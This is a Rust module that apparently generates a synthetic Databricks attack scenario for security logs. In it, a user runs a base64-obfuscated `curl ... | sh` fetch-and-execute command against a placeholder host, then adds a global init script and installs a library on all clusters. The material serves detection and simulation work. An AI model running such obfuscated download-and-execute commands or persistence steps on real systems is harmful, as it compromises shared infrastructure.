//! Code is put where every cluster runs it.

use super::{Kind, Plot, Product, Size};
use crate::calendar::MINUTE;
use crate::services::{cluster_libraries, global_init_scripts, notebook};

pub(super) static KIND: Kind = Kind {
    id: "init-script",
    title: "A global init script and a hidden command",
    what: "One user runs a command that decodes another one and pipes it into a shell, creates a global init script, \
           and installs a library on all clusters.",
    product: Product::Databricks,
    in_2019: false,
    after_days: 0,
    size: Size { per_100_000: 0, min: 1, max: 1, events_per_step: 3, extra: 0 },
    plant,
};

/// `curl -s https://files.example/x | sh`
const HIDDEN: &str = "Y3VybCAtcyBodHRwczovL2ZpbGVzLmV4YW1wbGUveCB8IHNo";

fn plant(plot: &mut Plot<'_, '_>) {
    let text = format!("%sh\necho {HIDDEN} | base64 -d | sh");
    let event = notebook::command(&mut plot.scene, "shell", text);
    plot.log(event);
    plot.wait(9 * MINUTE);
    let id = format!("{:016X}", plot.scene.random.next());
    let event = global_init_scripts::changed(&mut plot.scene, "create", id);
    plot.log(event);
    plot.wait(6 * MINUTE);
    let event =
        cluster_libraries::on_all_clusters(&mut plot.scene, r#"[{"whl":"dbfs:/tmp/helper-0.1-py3-none-any.whl"}]"#);
    plot.log(event);
}
